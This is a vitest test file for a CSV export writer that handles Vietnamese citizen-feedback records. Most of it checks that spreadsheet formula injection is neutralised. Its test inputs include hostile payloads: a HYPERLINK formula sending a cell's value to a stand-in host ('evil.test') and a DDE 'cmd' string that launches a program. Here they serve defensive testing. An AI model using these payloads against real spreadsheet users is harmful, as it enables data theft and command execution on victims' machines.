import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

describe('the CSV writer', () => {
  it('starts with a UTF-8 byte order mark and ends every record with CRLF', () => {
    const text = toCsv(['Mã', 'Nội dung'], [['2026-000001', 'Trả kết quả muộn']]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toBe('\uFEFFMã,Nội dung\r\n2026-000001,Trả kết quả muộn\r\n');
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes (RFC 4180)', () => {
    expect(csvCell('Phường Hoàn Kiếm, Hà Nội')).toBe('"Phường Hoàn Kiếm, Hà Nội"');
    expect(csvCell('Cán bộ nói "không có"')).toBe('"Cán bộ nói ""không có"""');
    expect(csvCell('dòng 1\r\ndòng 2')).toBe('"dòng 1\r\ndòng 2"');
    expect(csvCell('không cần')).toBe('không cần');
  });

  it('keeps Vietnamese text with every diacritic and đ intact', () => {
    const text = 'Đề nghị UBND phường trả lời: hồ sơ đăng ký khai sinh bị trễ hẹn';
    expect(toCsv(['x'], [[text]]).split('\r\n')[1]).toBe(text);
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    expect(csvCell('=HYPERLINK("http://evil","bấm")')).toBe(`"'=HYPERLINK(""http://evil"",""bấm"")"`);
    expect(csvCell('+84912345678')).toBe("'+84912345678");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('writes numbers as numbers and empty cells for nothing', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-3, 4.5, null, undefined]])).toBe('\uFEFFa,b,c,d\r\n-3,4.5,,\r\n');
    expect(csvCell(true)).toBe('1');
    expect(csvCell(Number.NaN)).toBe('');
  });
});

/**
 * Issue 9, defect 10: a cell whose first visible character starts a formula in Excel, LibreOffice or Google
 * Sheets must be text, whatever hides in front of it and whichever separator the spreadsheet picks (Excel in a
 * Vietnamese locale splits on `;`, and then reads a quote in the middle of a field as a plain character).
 */
describe('issue 9: CSV formula injection', () => {
  const FORMULA_STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁼', '₊'];
  const HIDDEN_PREFIXES = [
    '',
    ' ',
    '   ',
    '\t',
    '\r',
    '\n',
    '\u00a0',
    '\u2002',
    '\u3000',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u202e',
    '\u00ad',
    ' \u200b\u00a0',
    '"',
    '" ',
  ];
  const SEPARATORS = [',', ';', '\t', '|', '\r', '\n', '\r\n'];
  const BODY = 'HYPERLINK("http://evil.test/?x="&A1,"bấm")';

  /**
   * Every field a spreadsheet could see in the written line, whichever of the separators it splits on and
   * whether or not it honours the quotes, with what it ignores in front (blanks, invisible marks, a quote).
   */
  function fieldStarts(line: string): string[] {
    return line.split(/[,;\t|\r\n]/).map((field) => field.replace(/^[\s\p{Cc}\p{Cf}"]+/u, ''));
  }
  const startsFormula = (field: string) => /^[=+\-@＝＋－＠﹦﹢﹣﹫−⁼₊]/u.test(field);

  const payloads: string[] = [];
  for (const start of FORMULA_STARTS) {
    for (const prefix of HIDDEN_PREFIXES) payloads.push(`${prefix}${start}${BODY}`);
    for (const separator of SEPARATORS) {
      payloads.push(`Nội dung${separator}${start}${BODY}`, `${separator}${start}1+1`, `a${separator} \u200b${start}cmd|' /C calc'!A0`);
    }
  }

  it.each(payloads.map((p) => [JSON.stringify(p), p]))('neutralises %s', (_label, payload) => {
    const line = toCsv(['x', 'y'], [['PAKN-2026-000001', payload]])
      .split('\r\n')
      .slice(1)
      .join('\r\n');
    for (const field of fieldStarts(line)) expect(startsFormula(field), `${JSON.stringify(line)} → ${JSON.stringify(field)}`).toBe(false);
  });

  it('covers the payloads the issue names', () => {
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('  =1+1')).toBe("'  =1+1");
    expect(csvCell(';=1+1')).toBe(`";'=1+1"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
  });

  it('leaves ordinary text alone', () => {
    expect(csvCell('Phường Hoàn Kiếm trả hồ sơ muộn')).toBe('Phường Hoàn Kiếm trả hồ sơ muộn');
    expect(csvCell('a=b, c+d')).toBe('"a=b, c+d"');
    expect(csvCell("'đã có dấu nháy")).toBe("'đã có dấu nháy");
  });
});
